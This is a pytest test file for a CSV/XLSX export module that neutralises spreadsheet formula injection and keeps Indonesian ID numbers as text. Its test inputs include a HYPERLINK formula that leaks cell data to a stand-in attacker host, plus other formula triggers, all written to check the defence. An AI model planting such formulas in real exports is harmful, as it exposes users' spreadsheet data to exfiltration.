"""Safe CSV and XLSX exports (netral/export.py): formula neutralisation, encoding, NIPs kept as text."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest

from netral.export import neutralise_cell, sanitise_sheet_name, table_to_csv, table_to_xlsx

NIP = "197001012024121001"  # born 1 Jan 1970, CPNS Dec 2024, male, serial 001

NEUTRALISE_CASES: list[tuple[object, object]] = [
    ('=HYPERLINK("http://evil.example/?leak="&A1,"Klik")', '\'=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'),
    ("=1+1", "'=1+1"),
    ("+1", "'+1"),
    ("-2", "'-2"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("+62 812 3456 7890", "'+62 812 3456 7890"),  # a phone number is text too, and is guarded like any text
    (-2, -2),  # numbers stay numbers
    (-2.5, -2.5),
    (Decimal("-3"), Decimal("-3")),
    (0, 0),
    (None, None),
    (True, True),
    (date(2025, 6, 15), date(2025, 6, 15)),
    ("Budi Santoso", "Budi Santoso"),
    ("a=b", "a=b"),  # only the first character matters
    (" =1", " =1"),
    ("", ""),
    (NIP, NIP),
    ("'=1", "'=1"),  # already guarded text starts with the apostrophe, not a trigger
]


@pytest.mark.parametrize(("value", "expected"), NEUTRALISE_CASES)
def test_neutralise_cell(value: object, expected: object) -> None:
    result = neutralise_cell(value)
    assert result == expected and type(result) is type(expected)


COLUMNS = ["NIP", "Nama", "Catatan", "Skor"]
ROWS = [
    [NIP, "Dr. Siti Aminah, S.H., M.H.", '=HYPERLINK("http://evil.example","x")', -2],
    [NIP, "Ni Luh Putu Śrī Dewi", "-2", 87.5],
    ["198502142010012003", 'Budi "Bud" Santoso', "@SUM(A1:A2)", None],
    ["199001012015031001", "Rina\nMarlina", "\tindented", 0],
]


def test_csv_round_trip_is_neutralised_utf8_with_bom() -> None:
    data = table_to_csv(COLUMNS, ROWS)
    assert data.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows == [
        COLUMNS,
        [NIP, "Dr. Siti Aminah, S.H., M.H.", '\'=HYPERLINK("http://evil.example","x")', "-2"],
        [NIP, "Ni Luh Putu Śrī Dewi", "'-2", "87.5"],
        ["198502142010012003", 'Budi "Bud" Santoso', "'@SUM(A1:A2)", ""],
        ["199001012015031001", "Rina\nMarlina", "'\tindented", "0"],
    ]


def test_csv_with_semicolons_for_the_indonesian_excel_locale() -> None:
    data = table_to_csv(["Nama", "Unit"], [["Siti Aminah, S.H.", "BKPSDM; Bidang Mutasi"]], delimiter=";")
    text = data.decode("utf-8-sig")
    assert text.splitlines()[0] == "Nama;Unit"
    assert list(csv.reader(io.StringIO(text, newline=""), delimiter=";")) == [
        ["Nama", "Unit"], ["Siti Aminah, S.H.", "BKPSDM; Bidang Mutasi"]]


def test_csv_writes_dates_iso_and_neutralises_headers() -> None:
    data = table_to_csv(["=Tanggal", "Waktu"], [[date(2025, 6, 15), datetime(2025, 6, 15, 8, 30)]])
    assert data.decode("utf-8-sig") == "'=Tanggal,Waktu\r\n2025-06-15,2025-06-15 08:30:00\r\n"


@pytest.mark.parametrize("delimiter", ['"', "\n", ";;", ""])
def test_csv_refuses_a_delimiter_that_breaks_the_file(delimiter: str) -> None:
    with pytest.raises(ValueError):
        table_to_csv(["a"], [["b"]], delimiter=delimiter)


def _workbook(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def test_xlsx_round_trip_values_no_formulas_nips_as_text() -> None:
    rows_with_int_nip = [*ROWS, [199207232019022001, "Rina", "=1+1", 1]]
    workbook = _workbook(table_to_xlsx({"Peserta": (COLUMNS, rows_with_int_nip)}, text_columns=["NIP"]))
    sheet = workbook["Peserta"]
    values = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert values == [
        COLUMNS,
        [NIP, "Dr. Siti Aminah, S.H., M.H.", '\'=HYPERLINK("http://evil.example","x")', -2],
        [NIP, "Ni Luh Putu Śrī Dewi", "'-2", 87.5],
        ["198502142010012003", 'Budi "Bud" Santoso', "'@SUM(A1:A2)", None],
        ["199001012015031001", "Rina\nMarlina", "'\tindented", 0],
        ["199207232019022001", "Rina", "'=1+1", 1],  # the int NIP became its 18 digits, as text
    ]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    for cell in sheet["A"][1:]:
        assert cell.data_type == "s" and isinstance(cell.value, str) and cell.number_format == "@"
    assert sheet["D2"].data_type == "n" and sheet["D2"].number_format == "General"  # -2 is still a number


def test_xlsx_header_width_freeze_and_digit_text_outside_text_columns() -> None:
    long_text = "Bagian Organisasi dan Tata Laksana Sekretariat Daerah Provinsi Banten, Kota Serang"
    workbook = _workbook(table_to_xlsx({"Data": (["Nama", "Unit", "NIK"], [["Ani", long_text, "3201010101900001"]])}))
    sheet = workbook["Data"]
    assert [sheet.cell(1, column).font.b for column in (1, 2, 3)] == [True, True, True]
    assert sheet["A2"].font.b is not True
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width == 8  # short column: the minimum
    assert sheet.column_dimensions["B"].width == 60  # long text: capped
    assert sheet.column_dimensions["C"].width == len("3201010101900001") + 2
    assert sheet["C2"].number_format == "@" and sheet["C2"].value == "3201010101900001"  # digit text stays text


def test_xlsx_text_that_looks_like_an_error_or_has_control_characters_stays_safe_text() -> None:
    workbook = _workbook(table_to_xlsx({"S": (["x"], [["#N/A"], ["\x01=1+1"], ["a\x00b"]])}))
    sheet = workbook["S"]
    assert [(cell.value, cell.data_type) for (cell,) in sheet.iter_rows(min_row=2)] == [
        ("#N/A", "s"), ("'=1+1", "s"), ("ab", "s")]


def test_xlsx_sheets_keep_their_order_and_get_valid_names() -> None:
    data = table_to_xlsx({
        "Rekap: Juni/2025 [final]?": (["a"], [[1]]),
        "rekap- juni-2025 -final--": (["a"], [[2]]),
        "History": (["a"], []),
        "'": (["a"], []),
        "Nilai peserta pelatihan netralitas ASN Kota Serang": (["a"], []),
    })
    names = _workbook(data).sheetnames
    assert names == ["Rekap- Juni-2025 -final--", "rekap- juni-2025 -final-- (2)", "History sheet", "Sheet",
                     "Nilai peserta pelatihan netrali"]
    assert all(len(name) <= 31 for name in names)
    assert _workbook(data)[names[1]]["A2"].value == 2


@pytest.mark.parametrize(("name", "taken", "expected"), [
    ("Peserta", [], "Peserta"),
    ("Peserta", ["peserta"], "Peserta (2)"),
    ("Peserta", ["Peserta", "Peserta (2)"], "Peserta (3)"),
    ("a/b\\c*d?e:f[g]h", [], "a-b-c-d-e-f-g-h"),
    ("  ", [], "Sheet"),
    ("'kutip'", [], "kutip"),
    ("x" * 40, ["x" * 31], "x" * 27 + " (2)"),
    ("history", [], "history sheet"),
])
def test_sanitise_sheet_name(name: str, taken: list[str], expected: str) -> None:
    result = sanitise_sheet_name(name, taken)
    assert result == expected and len(result) <= 31


def test_xlsx_needs_a_sheet() -> None:
    with pytest.raises(ValueError):
        table_to_xlsx({})
